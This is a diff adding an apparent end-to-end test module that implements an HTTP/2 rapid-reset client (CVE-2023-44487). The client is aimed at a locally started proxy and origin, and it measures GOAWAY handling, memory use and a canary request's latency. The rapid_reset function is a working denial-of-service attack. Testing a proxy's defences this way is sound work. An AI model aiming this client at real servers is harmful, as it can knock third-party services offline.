@@ -1,0 +1,220 @@
+"""An HTTP/2 rapid-reset client (CVE-2023-44487) for end-to-end tests and measurements.
+
+It opens a CONNECT tunnel through the proxy, speaks h2 over TLS inside it and
+sends HEADERS immediately followed by RST_STREAM(CANCEL), as fast as the socket
+takes them. A reader thread records what the proxy answers (GOAWAY, resets).
+
+Run by hand against a proxy and origin started here, to measure:
+
+    .venv/bin/python -m tests.h2_rapid_reset [STREAMS]
+"""
+
+from __future__ import annotations
+
+import socket
+import ssl
+import sys
+import tempfile
+import threading
+import time
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.exceptions
+
+
+@dataclass
+class AttackResult:
+    streams_sent: int = 0
+    seconds: float = 0.0
+    goaway_code: int | None = None
+    goaway_seconds: float | None = None  # since the first stream went out
+    responses: int = 0
+    refused: int = 0
+    closed_by_proxy: bool = False
+    errors: list[str] = field(default_factory=list)
+
+
+def open_h2_tunnel(proxy_port: int, host: str, port: int, timeout: float = 10) -> ssl.SSLSocket:
+    """A TLS socket speaking h2 (ALPN) through the proxy's CONNECT tunnel; certificates unchecked."""
+    sock = socket.create_connection(("127.0.0.1", proxy_port), timeout=timeout)
+    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = sock.recv(4096)
+        if not chunk:
+            raise ConnectionError("proxy closed the CONNECT tunnel")
+        head += chunk
+    if not head.startswith(b"HTTP/1.1 200"):
+        raise ConnectionError(f"CONNECT refused: {head[:100]!r}")
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    tls = context.wrap_socket(sock, server_hostname=host)
+    if tls.selected_alpn_protocol() != "h2":
+        raise ConnectionError(f"proxy did not negotiate h2 ({tls.selected_alpn_protocol()})")
+    return tls
+
+
+def h2_client() -> h2.connection.H2Connection:
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
+    conn.initiate_connection()
+    return conn
+
+
+def request_headers(host: str, port: int, path: str, method: str = "GET") -> list[tuple[bytes, bytes]]:
+    return [
+        (b":method", method.encode()),
+        (b":scheme", b"https"),
+        (b":authority", f"{host}:{port}".encode()),
+        (b":path", path.encode()),
+    ]
+
+
+def rapid_reset(proxy_port: int, host: str, port: int, streams: int, batch: int = 100) -> AttackResult:
+    """Send ``streams`` HEADERS+RST_STREAM pairs (paths /reset/N) and report what came back."""
+    result = AttackResult()
+    tls = open_h2_tunnel(proxy_port, host, port)
+    conn = h2_client()
+    lock = threading.Lock()
+    start = time.monotonic()
+    done = threading.Event()
+
+    def read() -> None:
+        try:
+            while not done.is_set():
+                try:
+                    data = tls.recv(65536)
+                except TimeoutError:
+                    continue
+                if not data:
+                    result.closed_by_proxy = True
+                    return
+                with lock:
+                    for event in conn.receive_data(data):
+                        if isinstance(event, h2.events.ConnectionTerminated):
+                            result.goaway_code = event.error_code
+                            result.goaway_seconds = time.monotonic() - start
+                        elif isinstance(event, h2.events.ResponseReceived):
+                            result.responses += 1
+                        elif isinstance(event, h2.events.StreamReset) and event.error_code == 7:
+                            result.refused += 1
+                    tls.sendall(conn.data_to_send())
+        except (OSError, h2.exceptions.ProtocolError) as e:
+            result.closed_by_proxy = True
+            result.errors.append(repr(e))
+
+    reader = threading.Thread(target=read, daemon=True)
+    with lock:
+        tls.sendall(conn.data_to_send())
+    tls.settimeout(0.5)
+    reader.start()
+    try:
+        sent = 0
+        while sent < streams and result.goaway_code is None and not result.closed_by_proxy:
+            with lock:
+                for _ in range(min(batch, streams - sent)):
+                    stream_id = conn.get_next_available_stream_id()
+                    conn.send_headers(stream_id, request_headers(host, port, f"/reset/{sent}"), end_stream=True)
+                    conn.reset_stream(stream_id, 8)  # CANCEL
+                    sent += 1
+                data = conn.data_to_send()
+            tls.sendall(data)
+        result.streams_sent = sent
+        # Wait a little for the proxy's verdict (GOAWAY or close) to arrive.
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline and result.goaway_code is None and not result.closed_by_proxy:
+            time.sleep(0.02)
+    except (OSError, h2.exceptions.ProtocolError) as e:
+        result.closed_by_proxy = True
+        result.errors.append(repr(e))
+    finally:
+        result.seconds = time.monotonic() - start
+        done.set()
+        reader.join(2)
+        tls.close()
+    return result
+
+
+def h2_get(proxy_port: int, host: str, port: int, path: str, timeout: float = 30) -> tuple[int, bytes]:
+    """One ordinary HTTP/2 GET through the proxy on a fresh connection: (status, body)."""
+    tls = open_h2_tunnel(proxy_port, host, port, timeout)
+    conn = h2_client()
+    stream_id = conn.get_next_available_stream_id()
+    conn.send_headers(stream_id, request_headers(host, port, path), end_stream=True)
+    tls.sendall(conn.data_to_send())
+    status, body = 0, b""
+    try:
+        while True:
+            data = tls.recv(65536)
+            if not data:
+                raise ConnectionError("connection closed before the response ended")
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ResponseReceived):
+                    status = int(dict(event.headers)[b":status"])
+                elif isinstance(event, h2.events.DataReceived):
+                    body += event.data
+                    conn.acknowledge_received_data(event.flow_controlled_length, stream_id)
+                elif isinstance(event, h2.events.StreamEnded):
+                    return status, body
+                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
+                    raise ConnectionError(f"request failed: {event}")
+            tls.sendall(conn.data_to_send())
+    finally:
+        tls.close()
+
+
+def rss_kib(pid: int) -> int:
+    """Resident memory of a process (Linux /proc), in KiB."""
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith("VmRSS:"):
+            return int(line.split()[1])
+    return 0
+
+
+def main() -> None:
+    from tests.e2e_servers import start_h2
+    from tests.test_e2e import Proxy
+
+    streams = int(sys.argv[1]) if len(sys.argv) > 1 else 20_000
+    extra = sys.argv[2:]
+    with tempfile.TemporaryDirectory() as tmp:
+        seen: list[str] = []
+        _loop, origin = start_h2(Path(tmp), seen)
+        proxy = Proxy(["-k", "-q", *extra], Path(tmp))
+        try:
+            h2_get(proxy.port, "localhost", origin, "/warmup")
+            canary: dict[str, float] = {}
+
+            def run_canary() -> None:
+                time.sleep(0.5)
+                t0 = time.monotonic()
+                try:
+                    h2_get(proxy.port, "localhost", origin, "/canary")
+                    canary["seconds"] = time.monotonic() - t0
+                except Exception as e:  # noqa: BLE001 - reported, not hidden
+                    canary["error"] = repr(e)  # type: ignore[assignment]
+
+            thread = threading.Thread(target=run_canary)
+            thread.start()
+            rss_before = rss_kib(proxy.proc.pid)
+            result = rapid_reset(proxy.port, "localhost", origin, streams)
+            thread.join(60)
+            time.sleep(0.5)
+            resets_seen = sum(1 for p in seen if p.startswith("/reset/"))
+            print(f"streams sent: {result.streams_sent} in {result.seconds:.2f} s")
+            print(f"GOAWAY: {result.goaway_code} after {result.goaway_seconds} s; closed: {result.closed_by_proxy}")
+            print(f"responses: {result.responses}, refused: {result.refused}")
+            print(f"reset streams that reached the origin: {resets_seen}")
+            print(f"canary: {canary}")
+            print(f"proxy RSS: {rss_before} KiB before, {rss_kib(proxy.proc.pid)} KiB after")
+        finally:
+            proxy.stop()
+
+
+if __name__ == "__main__":
+    main()
